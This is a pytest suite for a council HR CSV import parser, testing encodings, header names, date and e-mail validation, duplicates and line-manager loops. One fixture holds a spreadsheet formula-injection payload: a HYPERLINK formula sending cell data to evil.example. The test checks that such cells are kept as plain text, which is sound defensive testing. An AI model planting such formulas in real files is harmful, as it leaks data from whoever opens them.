"""The HR export parser: pure, so these tests build CSV files as bytes and need no database."""

from __future__ import annotations

from datetime import date

import pytest

from app.hr.parser import COLUMNS, MAX_BYTES, HrRow, ParsedFile, Problem, parse

FIELDS = (
    "employee_number",
    "first_name",
    "last_name",
    "email",
    "department",
    "job_title",
    "start_date",
    "line_manager",
    "regulated_role",
    "professional_body",
    "leaving_date",
)
HEADER = ",".join(FIELDS)


def person(n: int, **changes: str) -> dict[str, str]:
    values = {
        "employee_number": f"E{n}",
        "first_name": f"First{n}",
        "last_name": f"Last{n}",
        "email": f"person{n}@council.gov.uk",
        "department": "Finance",
        "job_title": "Clerk",
        "start_date": "2024-01-15",
        "line_manager": "",
        "regulated_role": "no",
        "professional_body": "none",
        "leaving_date": "",
    }
    values.update(changes)
    return values


def line(values: dict[str, str], delimiter: str = ",") -> str:
    return delimiter.join(values[f] for f in FIELDS)


def csv_file(*lines: str, header: str = HEADER, encoding: str = "utf-8") -> bytes:
    return ("\r\n".join([header, *lines]) + "\r\n").encode(encoding)


def people(*changed: dict[str, str]) -> bytes:
    return csv_file(*(line(p) for p in changed))


def messages(parsed: ParsedFile) -> list[str]:
    return [p.message for p in parsed.problems]


def only_problem(parsed: ParsedFile) -> Problem:
    assert len(parsed.problems) == 1, messages(parsed)
    return parsed.problems[0]


# --- Clean files and formats -------------------------------------------------------------


def test_clean_comma_utf8_file_gives_every_field() -> None:
    data = people(
        person(
            1,
            email="  Ann.Smith@Council.GOV.uk ",
            first_name=" Ann ",
            start_date="15/01/2024",
            regulated_role="Yes",
            professional_body="sssc",
            leaving_date="2026-03-31",
        ),
        person(2, line_manager="E1", start_date="", professional_body=""),
    )
    parsed = parse(data)
    assert parsed.problems == []
    assert parsed.encoding == "utf-8"
    assert parsed.delimiter == ","
    assert parsed.rows == [
        HrRow(
            line=2,
            employee_number="E1",
            first_name="Ann",
            last_name="Last1",
            email="ann.smith@council.gov.uk",
            department="Finance",
            job_title="Clerk",
            start_date=date(2024, 1, 15),
            line_manager_number=None,
            regulated_role=True,
            professional_body="SSSC",
            leaving_date=date(2026, 3, 31),
        ),
        HrRow(
            line=3,
            employee_number="E2",
            first_name="First2",
            last_name="Last2",
            email="person2@council.gov.uk",
            department="Finance",
            job_title="Clerk",
            start_date=None,
            line_manager_number="E1",
            regulated_role=False,
            professional_body="none",
            leaving_date=None,
        ),
    ]


def test_byte_order_mark_is_ignored() -> None:
    parsed = parse(b"\xef\xbb\xbf" + people(person(1)))
    assert parsed.problems == []
    assert parsed.encoding == "utf-8"
    assert [r.employee_number for r in parsed.rows] == ["E1"]


def test_semicolon_file() -> None:
    data = csv_file(
        line(person(1, job_title="Clerk, senior"), ";"), header=HEADER.replace(",", ";")
    )
    parsed = parse(data)
    assert parsed.problems == []
    assert parsed.delimiter == ";"
    assert parsed.rows[0].job_title == "Clerk, senior"


def test_windows_1252_file_is_decoded() -> None:
    data = csv_file(
        line(person(1, first_name="Siobhán", last_name="Ó Néill", job_title="Café – manager")),
        encoding="cp1252",
    )
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    parsed = parse(data)
    assert parsed.problems == []
    assert parsed.encoding == "windows-1252"
    row = parsed.rows[0]
    assert (row.first_name, row.last_name, row.job_title) == (
        "Siobhán",
        "Ó Néill",
        "Café – manager",
    )


def test_utf8_accents_stay_utf8() -> None:
    parsed = parse(people(person(1, first_name="Siobhán")))
    assert parsed.encoding == "utf-8"
    assert parsed.rows[0].first_name == "Siobhán"


def test_headers_in_any_order_case_and_synonyms_with_extra_columns() -> None:
    header = (
        " Surname ,PVG,Staff Number,E-Mail,Payroll Code,Forename,Department,Post,"
        "START-DATE,Manager Employee Number,Registration Body,End Date"
    )
    data = csv_file(
        "Smith,y,E1,ann@council.gov.uk,PX-9,Ann,Finance,Clerk,2024-01-15,,GTCS,",
        "Jones,n,E2,bob@council.gov.uk,PX-8,Bob,Finance,Clerk,,E1,,2025-06-30",
        header=header,
    )
    parsed = parse(data)
    assert parsed.problems == []
    ann, bob = parsed.rows
    assert (ann.employee_number, ann.first_name, ann.last_name) == ("E1", "Ann", "Smith")
    assert (ann.regulated_role, ann.professional_body) == (True, "GTCS")
    assert (bob.line_manager_number, bob.leaving_date) == ("E1", date(2025, 6, 30))


@pytest.mark.parametrize(
    ("field", "name"),
    [(field, name) for field, (_, names) in COLUMNS.items() for name in names],
)
def test_every_accepted_header_name(field: str, name: str) -> None:
    header = HEADER.split(",")
    header[FIELDS.index(field)] = name.upper().replace("_", " ")
    parsed = parse(csv_file(line(person(1)), header=",".join(header)))
    assert parsed.problems == []
    assert len(parsed.rows) == 1


def test_leaving_date_column_is_optional() -> None:
    header = HEADER.removesuffix(",leaving_date")
    data = csv_file(line(person(1)).removesuffix(","), header=header)
    parsed = parse(data)
    assert parsed.problems == []
    assert parsed.rows[0].leaving_date is None


def test_quoted_field_with_comma_and_newline_keeps_line_numbers() -> None:
    first = line(person(1, job_title='"Clerk, finance\r\nand payroll"'))
    data = csv_file(first, line(person(2, start_date="2024-13-01")))
    parsed = parse(data)
    assert parsed.rows[0].job_title == "Clerk, finance\r\nand payroll"
    assert messages(parsed) == [
        "Line 4: the start date '2024-13-01' is not a real date. "
        "Use the form 2026-02-28 or 28/02/2026."
    ]


def test_blank_lines_are_skipped_but_counted() -> None:
    data = csv_file("", line(person(1)), ",,,,,,,,,,", "  ", line(person(2, email="")))
    parsed = parse(data)
    assert [r.line for r in parsed.rows] == [3]
    assert messages(parsed) == ["Line 6: the e-mail address is missing."]


def test_formula_like_cells_are_kept_as_exact_text() -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    data = csv_file(
        line(person(1, first_name='"' + formula.replace('"', '""') + '"')),
        line(person(2, first_name="+1", last_name="-2", department="@SUM(A1:A9)")),
    )
    parsed = parse(data)
    assert parsed.problems == []
    assert parsed.rows[0].first_name == formula
    assert (parsed.rows[1].first_name, parsed.rows[1].last_name) == ("+1", "-2")
    assert parsed.rows[1].department == "@SUM(A1:A9)"


# --- Whole-file problems -----------------------------------------------------------------


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b"  \r\n\r\n", b",,,\r\n"])
def test_empty_file(data: bytes) -> None:
    parsed = parse(data)
    assert parsed.problems == [Problem(None, "The file is empty.")]
    assert parsed.rows == []


def test_heading_line_without_rows() -> None:
    problem = only_problem(parse(csv_file()))
    assert problem.line is None
    assert "no employees" in problem.message


def test_missing_columns_are_named_in_one_message() -> None:
    header = HEADER.replace("email,", "").replace("department,", "")
    data = csv_file("E1,Ann,Smith,Clerk,2024-01-15,,no,none,", header=header)
    parsed = parse(data)
    problem = only_problem(parsed)
    assert problem.line is None
    assert problem.message.startswith(
        "The file has no column for the e-mail address or the department. "
        "Column names we accept: for the e-mail address, 'email', 'e_mail', "
        "'email_address' or 'e_mail_address'; for the department, 'department'."
    )
    assert parsed.rows == []


def test_file_without_a_heading_line() -> None:
    problem = only_problem(parse(people(person(1)).split(b"\r\n", 1)[1]))
    assert problem.line is None
    assert "the first line of the file must be the line of column headings" in (
        problem.message.lower()
    )


def test_duplicate_heading_is_a_file_problem() -> None:
    data = csv_file(line(person(1)) + ",x", header=HEADER + ",E-mail")
    parsed = parse(data)
    assert parsed.problems == [
        Problem(
            None,
            "The heading line has two columns for the e-mail address: 'email' (column 4) and "
            "'E-mail' (column 12). Remove one of them.",
        )
    ]
    assert parsed.rows == []


def test_too_large() -> None:
    data = people(person(1))
    parsed = parse(data, max_bytes=100)
    assert parsed.problems == [
        Problem(
            None,
            "The file is larger than 100 bytes. "
            "Split it into smaller files and upload them one at a time.",
        )
    ]
    assert parsed.rows == []
    assert parse(data, max_bytes=len(data) - 1).rows == []
    assert parse(data, max_bytes=len(data)).problems == []


def test_too_large_message_uses_the_limit() -> None:
    parsed = parse(b"x" * (MAX_BYTES + 1))
    assert messages(parsed) == [
        "The file is larger than 5 MB. Split it into smaller files and upload them one at a time."
    ]


def test_too_many_rows() -> None:
    data = people(*(person(n) for n in range(1, 5)))
    parsed = parse(data, max_rows=3)
    assert messages(parsed) == [
        "The file has more than 3 rows of employees. "
        "Split it into smaller files and upload them one at a time."
    ]
    assert parsed.rows == []
    assert parse(data, max_rows=4).problems == []


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"PK\x03\x04rest-of-a-zip", "Excel workbook"),
        (b"\xd0\xcf\x11\xe0old-xls", "Excel workbook"),
        (HEADER.encode("utf-16"), "Unicode Text"),
    ],
)
def test_excel_saves_that_are_not_csv(data: bytes, words: str) -> None:
    problem = only_problem(parse(data))
    assert problem.line is None
    assert words in problem.message
    assert "CSV UTF-8" in problem.message


def test_bytes_that_are_neither_utf8_nor_windows_1252() -> None:
    problem = only_problem(parse(csv_file(line(person(1))) + b"\x81"))
    assert problem.line is None
    assert "cannot read" in problem.message


# --- One row at a time -------------------------------------------------------------------


def row_problems(**changes: str) -> list[str]:
    """Put the changed person on line 3, after a clean line 2, and return the messages."""
    parsed = parse(people(person(1), person(2, **changes)))
    assert [r.line for r in parsed.rows] == [2]
    assert all(p.line == 3 for p in parsed.problems)
    return messages(parsed)


@pytest.mark.parametrize(
    ("field", "words"),
    [
        ("employee_number", "employee number"),
        ("first_name", "first name"),
        ("last_name", "last name"),
        ("email", "e-mail address"),
        ("department", "department"),
    ],
)
def test_missing_required_value(field: str, words: str) -> None:
    assert row_problems(**{field: "  "}) == [f"Line 3: the {words} is missing."]


@pytest.mark.parametrize("field", ["job_title", "start_date", "line_manager", "leaving_date"])
def test_optional_values_may_be_blank(field: str) -> None:
    parsed = parse(people(person(1, **{field: ""})))
    assert parsed.problems == []


@pytest.mark.parametrize(
    "email",
    [
        "ann",
        "ann@council",
        "ann@@council.gov.uk",
        "a@b@c.uk",
        "ann smith@council.gov.uk",
        "@council.gov.uk",
        "ann@council..uk",
        "ann@.council.uk",
        "ann@council.uk.",
    ],
)
def test_implausible_email(email: str) -> None:
    assert row_problems(email=email) == [
        f"Line 3: the e-mail address '{email}' does not look like one."
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2026-02-28", date(2026, 2, 28)),
        ("28/02/2026", date(2026, 2, 28)),
        ("1/2/2026", date(2026, 2, 1)),
        ("2024-02-29", date(2024, 2, 29)),
    ],
)
def test_accepted_date_forms(value: str, expected: date) -> None:
    parsed = parse(people(person(1, start_date=value)))
    assert parsed.rows[0].start_date == expected


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("31/02/2026", "is not a real date"),
        ("2026-02-30", "is not a real date"),
        ("2025-02-29", "is not a real date"),
        ("2026-00-10", "is not a real date"),
        ("02/28/2026", "is not a real date"),
        ("2026.02.28", "is not a date we recognise"),
        ("28/02/26", "is not a date we recognise"),
        ("next week", "is not a date we recognise"),
        ("2026-02-28 00:00:00", "is not a date we recognise"),
    ],
)
@pytest.mark.parametrize(("field", "words"), [("start_date", "start"), ("leaving_date", "leaving")])
def test_bad_dates(value: str, kind: str, field: str, words: str) -> None:
    assert row_problems(**{field: value}) == [
        f"Line 3: the {words} date '{value}' {kind}. Use the form 2026-02-28 or 28/02/2026."
    ]


def test_leaving_before_starting() -> None:
    assert row_problems(start_date="01/03/2026", leaving_date="2026-02-28") == [
        "Line 3: the leaving date 2026-02-28 is before the start date 2026-03-01."
    ]


def test_leaving_on_the_start_date_is_allowed() -> None:
    assert parse(people(person(1, start_date="2026-03-01", leaving_date="1/3/2026"))).rows


@pytest.mark.parametrize(
    ("value", "expected"),
    [(v, True) for v in ("yes", "Y", "TRUE", "1")]
    + [(v, False) for v in ("No", "n", "false", "0", "")],
)
def test_regulated_role_values(value: str, expected: bool) -> None:
    assert parse(people(person(1, regulated_role=value))).rows[0].regulated_role is expected


@pytest.mark.parametrize("value", ["maybe", "2", "yes please"])
def test_bad_regulated_role(value: str) -> None:
    assert row_problems(regulated_role=value) == [
        f"Line 3: the regulated role '{value}' is not understood. Use yes or no (a blank means no)."
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("", "none"),
        ("None", "none"),
        ("sssc", "SSSC"),
        ("Gtcs", "GTCS"),
        ("HCPC", "HCPC"),
        ("Other", "other"),
        ("Scottish Social Services Council", "SSSC"),
        ("general teaching council for scotland", "GTCS"),
        ("Health and Care Professions Council", "HCPC"),
        ("Health & Care  Professions Council", "HCPC"),
    ],
)
def test_professional_body_values(value: str, expected: str) -> None:
    assert parse(people(person(1, professional_body=value))).rows[0].professional_body == expected


def test_bad_professional_body() -> None:
    assert row_problems(professional_body="NMC") == [
        "Line 3: the professional body 'NMC' is not one we know. "
        "Use none, SSSC, GTCS, HCPC or other (a blank means none)."
    ]


def test_own_line_manager() -> None:
    assert row_problems(line_manager="E2") == [
        "Line 3: employee 'E2' is named as their own line manager. "
        "Give their manager's employee number, or leave it blank."
    ]


def test_wrong_number_of_values() -> None:
    assert row_problems(job_title="Clerk, finance") == [
        "Line 3: this line has 12 values but the heading line has 11. "
        "A value that contains a comma must be inside double quotes."
    ]


def test_unclosed_quote_points_at_the_line_it_starts_on() -> None:
    data = people(person(1, job_title='"Clerk'), person(2), person(3))
    parsed = parse(data)
    assert parsed.rows == []
    problem = only_problem(parsed)
    assert problem.line == 2
    assert "The line runs on to line 4, so a closing quotation mark may be missing" in (
        problem.message
    )


def test_unreadable_line_stops_the_file_and_gives_no_rows() -> None:
    runaway = person(2, job_title='"' + "x" * 200_000)  # beyond the csv module's field limit
    parsed = parse(people(person(1), runaway, person(3)))
    assert parsed.rows == []
    assert [p.line for p in parsed.problems] == [3]
    assert parsed.problems[0].message.startswith("Line 3: this line could not be read")


def test_every_problem_on_a_line_is_reported() -> None:
    found = row_problems(
        first_name="",
        email="nobody",
        start_date="31/02/2026",
        regulated_role="perhaps",
        professional_body="NMC",
        line_manager="E2",
    )
    assert found == [
        "Line 3: the first name is missing.",
        "Line 3: the e-mail address 'nobody' does not look like one.",
        "Line 3: the start date '31/02/2026' is not a real date. "
        "Use the form 2026-02-28 or 28/02/2026.",
        "Line 3: the regulated role 'perhaps' is not understood. Use yes or no (a blank means no).",
        "Line 3: the professional body 'NMC' is not one we know. "
        "Use none, SSSC, GTCS, HCPC or other (a blank means none).",
        "Line 3: employee 'E2' is named as their own line manager. "
        "Give their manager's employee number, or leave it blank.",
    ]


def test_long_values_are_shortened_in_messages() -> None:
    (message,) = row_problems(start_date="x" * 500)
    assert len(message) < 200
    assert "'" + "x" * 60 + "…'" in message


# --- Across rows -------------------------------------------------------------------------


def test_duplicate_employee_number_names_the_first_line() -> None:
    parsed = parse(people(person(1), person(2), person(3, employee_number="E1"), person(1)))
    assert [r.line for r in parsed.rows] == [2, 3]
    assert messages(parsed) == [
        "Line 4: the employee number 'E1' is also on line 2. Each person must appear only once.",
        "Line 5: the employee number 'E1' is also on line 2. Each person must appear only once.",
        "Line 5: the e-mail address 'person1@council.gov.uk' is also on line 2. "
        "Each person needs their own e-mail address.",
    ]


def test_duplicate_email_ignores_case() -> None:
    parsed = parse(people(person(1), person(2), person(3, email="PERSON1@Council.gov.uk")))
    assert [r.line for r in parsed.rows] == [2, 3]
    assert messages(parsed) == [
        "Line 4: the e-mail address 'PERSON1@Council.gov.uk' is also on line 2. "
        "Each person needs their own e-mail address."
    ]


def test_unknown_line_manager() -> None:
    data = people(person(1), person(2, line_manager="E9"), person(3, line_manager="E7"))
    parsed = parse(data, existing_employee_numbers=frozenset({"E7"}))
    assert [r.line for r in parsed.rows] == [2, 4]
    assert messages(parsed) == [
        "Line 3: the line manager 'E9' is not an employee number in this file or of anyone "
        "already registered. Check the number, or leave it blank."
    ]


def test_manager_later_in_the_file_is_known() -> None:
    parsed = parse(people(person(1, line_manager="E2"), person(2)))
    assert parsed.problems == []
    assert len(parsed.rows) == 2


def test_manager_on_a_line_with_problems_is_still_known() -> None:
    parsed = parse(people(person(1, start_date="soon"), person(2, line_manager="E1")))
    assert [p.line for p in parsed.problems] == [2]
    assert [r.line for r in parsed.rows] == [3]


def test_two_person_manager_loop() -> None:
    parsed = parse(people(person(1, line_manager="E2"), person(2, line_manager="E1")))
    assert parsed.rows == []
    assert messages(parsed) == [
        "Line 2: the line managers go round in a loop: 'E1' is managed by 'E2', who is managed "
        "by 'E1'. Someone in the loop needs a manager outside it, or none.",
        "Line 3: the line managers go round in a loop: 'E2' is managed by 'E1', who is managed "
        "by 'E2'. Someone in the loop needs a manager outside it, or none.",
    ]


def test_longer_manager_loop_reports_each_line_once_and_spares_those_outside_it() -> None:
    data = people(
        person(1),
        person(2, line_manager="E4"),
        person(3, line_manager="E2"),
        person(4, line_manager="E3"),
        person(5, line_manager="E2"),  # reports into the loop but is not part of it
    )
    parsed = parse(data)
    assert [r.line for r in parsed.rows] == [2, 6]
    assert [p.line for p in parsed.problems] == [3, 4, 5]
    assert parsed.problems[0].message == (
        "Line 3: the line managers go round in a loop: 'E2' is managed by 'E4', who is managed "
        "by 'E3', who is managed by 'E2'. Someone in the loop needs a manager outside it, "
        "or none."
    )
    assert "'E4' is managed by 'E3', who is managed by 'E2', who is managed by 'E4'" in (
        parsed.problems[2].message
    )


def test_two_separate_loops() -> None:
    data = people(
        person(1, line_manager="E2"),
        person(2, line_manager="E1"),
        person(3, line_manager="E4"),
        person(4, line_manager="E3"),
    )
    assert [p.line for p in parse(data).problems] == [2, 3, 4, 5]


def test_email_already_used_by_someone_else() -> None:
    in_use = {"person2@council.gov.uk": "E99", "person1@council.gov.uk": "E1"}
    parsed = parse(
        people(person(1), person(2, email="Person2@Council.gov.uk")), emails_in_use=in_use
    )
    assert [r.line for r in parsed.rows] == [2]
    assert messages(parsed) == [
        "Line 3: the e-mail address 'Person2@Council.gov.uk' already belongs to someone else "
        "(employee number 'E99'). Each person needs their own e-mail address."
    ]


def test_an_address_still_held_by_a_leaver_says_what_to_do() -> None:
    in_use = {"person2@council.gov.uk": "E99"}
    parsed = parse(people(person(1), person(2)), emails_in_use=in_use, leavers=frozenset({"E99"}))
    assert messages(parsed) == [
        "Line 3: the e-mail address 'person2@council.gov.uk' still belongs to someone who "
        "has left (employee number 'E99', account deactivated). Ask an administrator to "
        "change the leaver's address on the admin pages, then upload this file again."
    ]


def test_errors_on_five_lines_are_all_reported_in_line_order() -> None:
    data = people(
        person(1),
        person(2, email="two-at-nowhere"),
        person(3),
        person(4, start_date="2026-02-30"),
        person(5, line_manager="E404"),
        person(6, regulated_role="sometimes"),
        person(7),
        person(8, employee_number="E3"),
    )
    parsed = parse(data)
    assert [p.line for p in parsed.problems] == [3, 5, 6, 7, 9]
    assert [p.message.split(":")[0] for p in parsed.problems] == [
        "Line 3",
        "Line 5",
        "Line 6",
        "Line 7",
        "Line 9",
    ]
    assert [r.line for r in parsed.rows] == [2, 4, 8]


def test_rows_with_problems_are_left_out_of_rows() -> None:
    parsed = parse(people(person(1), person(2, line_manager="E9")))
    problem_lines = {p.line for p in parsed.problems}
    assert problem_lines == {3}
    assert all(r.line not in problem_lines for r in parsed.rows)


# --- Size ---------------------------------------------------------------------------------


def test_eight_thousand_rows_parse_cleanly() -> None:
    data = people(
        *(person(n, line_manager=f"E{n // 10}" if n >= 10 else "") for n in range(1, 8001))
    )
    assert len(data) < MAX_BYTES
    parsed = parse(data)
    assert parsed.problems == []
    assert len(parsed.rows) == 8000
    assert parsed.rows[-1].line == 8001


# --- Columns not used --------------------------------------------------------------------


def test_columns_not_used_are_named_with_where_leaving_dates_are_read() -> None:
    header = HEADER.removesuffix(",leaving_date") + ",Date Left,,Payroll Code"
    data = csv_file(line(person(1)).removesuffix(",") + ",2020-06-30,,PX-9", header=header)
    parsed = parse(data)
    assert parsed.problems == [] and parsed.rows[0].leaving_date is None
    assert parsed.warnings == (
        "These columns are not used: 'Date Left' and 'Payroll Code'. Leaving dates are read "
        "only from a column called 'leaving_date' or 'end_date' (capitals, spaces and hyphens "
        "do not matter).",
    )


def test_one_column_not_used_beside_a_leaving_date_column() -> None:
    parsed = parse(csv_file(line(person(1)) + ",x", header=HEADER + ",Notes"))
    assert parsed.warnings == ("This column is not used: 'Notes'.",)


def test_a_file_using_every_column_has_no_warning() -> None:
    assert parse(people(person(1))).warnings == ()


def test_many_columns_not_used_are_summed_up() -> None:
    extra = [f"Extra {n}" for n in range(25)]
    parsed = parse(csv_file(line(person(1)) + "," * 25, header=",".join([HEADER, *extra])))
    [warning] = parsed.warnings
    assert "'Extra 19' and 5 more." in warning and "Extra 20" not in warning


@pytest.mark.parametrize("heading", ["E-mail Address", "E-Mail address", "Email Address"])
def test_e_mail_address_headings_are_accepted_as_the_message_promises(heading: str) -> None:
    header = HEADER.replace("email", heading)
    parsed = parse(csv_file(line(person(1)), header=header))
    assert messages(parsed) == [] and parsed.rows[0].email == "person1@council.gov.uk"


# --- Invisible characters in the values matched against what is registered ---------------


def test_an_invisible_character_in_an_employee_number_is_left_out() -> None:
    data = people(person(1, employee_number="E1\u200b", email="person1@council.gov.uk\u200b"))
    parsed = parse(
        data,
        existing_employee_numbers=frozenset({"E1"}),
        emails_in_use={"person1@council.gov.uk": "E1"},
    )
    assert messages(parsed) == []
    [row] = parsed.rows
    assert (row.employee_number, row.email) == ("E1", "person1@council.gov.uk")


def test_byte_order_marks_and_joiners_are_left_out_of_line_managers_and_addresses() -> None:
    data = people(
        person(1, employee_number="\ufeffE1 \u200d"),
        person(2, line_manager="\u2060E1\u200b", email="\u200bPerson2@Council.gov.uk"),
    )
    parsed = parse(data)
    assert messages(parsed) == []
    assert [r.employee_number for r in parsed.rows] == ["E1", "E2"]
    assert parsed.rows[1].line_manager_number == "E1"
    assert parsed.rows[1].email == "person2@council.gov.uk"


def test_addresses_differing_only_by_invisible_characters_are_the_same_address() -> None:
    parsed = parse(
        people(person(1, email="ann@council.gov.uk"), person(2, email="ann\u200b@council.gov.uk"))
    )
    assert messages(parsed) == [
        "Line 3: the e-mail address 'ann@council.gov.uk' is also on line 2. "
        "Each person needs their own e-mail address."
    ]


def test_addresses_are_kept_in_composed_form_and_matched_so() -> None:
    decomposed = "jose\u0301@council.gov.uk"  # e and a combining accent, as macOS pastes
    parsed = parse(people(person(1, email=decomposed)))
    assert messages(parsed) == [] and parsed.rows[0].email == "jos\u00e9@council.gov.uk"
    taken = parse(
        people(person(2, email=decomposed)), emails_in_use={"jos\u00e9@council.gov.uk": "E1"}
    )
    assert "already belongs to someone else (employee number 'E1')" in messages(taken)[0]
